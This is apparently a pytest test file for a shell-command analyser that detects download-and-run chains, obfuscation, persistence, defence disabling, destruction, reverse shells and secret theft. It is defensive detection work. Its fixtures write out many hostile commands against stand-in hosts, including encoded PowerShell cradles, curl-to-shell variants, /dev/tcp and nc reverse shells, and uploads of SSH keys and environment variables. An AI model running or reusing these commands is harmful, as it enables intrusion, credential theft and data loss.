"""Commands are understood through their disguises, and nothing hostile stops the reading."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.facts.shell import read_shell

_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/a.ps1')"
_WIDE = base64.b64encode(_CRADLE.encode("utf-16-le")).decode()
_FETCH = b"curl http://x.example.invalid/i.sh | bash"
_PIPE = base64.b64encode(_FETCH).decode()


def _packed(compress: Callable[[bytes], bytes]) -> str:
    return base64.b64encode(compress(_FETCH)).decode()


@pytest.mark.parametrize(
    "command",
    [
        "curl https://a.example.invalid/x.sh | sh",
        "curl -fsSL <url> | sudo -E bash -",
        'bash -c "$(curl -fsSL https://a.example.invalid/x)"',
        f"powershell -WindowStyle Hidden -EncodedCommand {_WIDE}",
        f"echo {_PIPE} | base64 -d | sh",
        f"echo {_packed(gzip.compress)} | base64 -d | gunzip | sh",
        f"echo {_packed(bz2.compress)} | base64 -d | bzip2 -dc | bash",
        f"echo {_packed(lzma.compress)} | base64 --decode | xzcat | sh",
        f"echo '{_FETCH.decode()[::-1]}' | rev | sh",
        "wget -q http://198.51.100.3/p -O /tmp/.p && chmod +x /tmp/.p && /tmp/.p &",
        "certutil -urlcache -split -f http://h.example.invalid/a.exe a.exe & a.exe",
        "curl -o C:\\Users\\a\\x.exe http://h.example.invalid/x.exe\nstart C:\\Users\\a\\x.exe",
        "c^u^rl http://h.example.invalid/a | cmd",
        "curl${IFS}http://h.example.invalid/a|sh",
        "c''url http://h.example.invalid/a|sh",
        "X=cu; Y=rl; $X$Y http://h.example.invalid/a|sh",
        "I`E`X (I`WR http://h.example.invalid/a)",
        "(\"{1}{0}\" -f 'X','IE') (iwr h.example.invalid/a)",
        "mshta http://x.example.invalid/a.hta",
    ],
)
def test_what_is_fetched_is_run(command: str) -> None:
    """A download that reaches an interpreter is seen, however the words are hidden."""
    facts = read_shell(command)
    assert facts.runs_download
    assert facts.downloads
    assert facts.line == 1


@pytest.mark.parametrize(
    "command",
    [
        "curl -O https://x.example.invalid/a.tgz\ntar xzf a.tgz",
        "curl https://x.example.invalid/a.json | python -m json.tool",
        "echo 'run curl https://x.example.invalid | sh'",
        "# curl https://x.example.invalid | sh",
        "git clone https://x.example.invalid/r && cd r && make",
        "rm -rf /tmp/build && crontab -l",
    ],
)
def test_ordinary_commands_are_not_remarkable(command: str) -> None:
    """Fetching data, printing advice, comments and clean-up are not chains."""
    assert not read_shell(command).remarkable


def test_layers_are_kept_and_read_again() -> None:
    """An encoded PowerShell command is decoded, named as a layer and read as the command it is."""
    facts = read_shell(f"powershell -w hidden -enc {_WIDE}")
    assert facts.layers == ("powershell-encoded",)
    assert facts.decoded == (_CRADLE,)
    assert facts.downloads == ("http://c2.example.invalid/a.ps1",)
    assert facts.hidden
    assert facts.runs_decoded


@pytest.mark.parametrize(
    ("command", "fact", "value"),
    [
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "persists", ("Run key",)),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persists", ("crontab",)),
        ("echo x >> ~/.bashrc", "persists", ("shell start-up file",)),
        ("Add-MpPreference -ExclusionPath C:\\", "disarms", ("Defender preferences",)),
        ("netsh advfirewall set allprofiles state off", "disarms", ("firewall",)),
        ("rm -rf ~/", "destroys", ("deletes everything",)),
        ("vssadmin delete shadows /all", "destroys", ("deletes shadow copies",)),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse_shell", True),
        ("nc 192.0.2.1 4444 -e /bin/sh", "reverse_shell", True),
        ('curl -d "$(env)" https://h.example.invalid/', "steals", True),
        ('K=$(cat ~/.ssh/id_rsa)\ncurl -d "$K" https://h.example.invalid/', "steals", True),
        ("tar czf /tmp/a.tgz ~/.ssh; curl -F f=@/tmp/a.tgz https://h.example.invalid/", "steals", True),
        ('python -c "import os; os.system(\\"id\\")"', "python", ('import os; os.system("id")',)),
        ("pip install evil-pkg", "installs", ("evil-pkg",)),
    ],
)
def test_each_fact(command: str, fact: str, value: object) -> None:
    """Each kind of fact is told from a typical command."""
    assert getattr(read_shell(command), fact) == value


def test_line_of_the_first_remarkable_command() -> None:
    """The line is that of the file, comments and continuations included."""
    script = "#!/bin/sh\n# hello\necho a \\\n  b\ncurl http://h.example.invalid/x | sh\n"
    assert read_shell(script).line == 5


def test_what_is_too_long_is_said_to_be_cut() -> None:
    """A text beyond the limit is reported as read in part."""
    assert read_shell("a b c d e f\n" * 700_000).truncated


@given(st.text(alphabet=st.sampled_from("curlwget|;&$(){}`'\"<>^%=:~- \n\\/abxIEX0123")))
def test_any_text_is_read(text: str) -> None:
    """No text makes the reader raise."""
    read_shell(text)
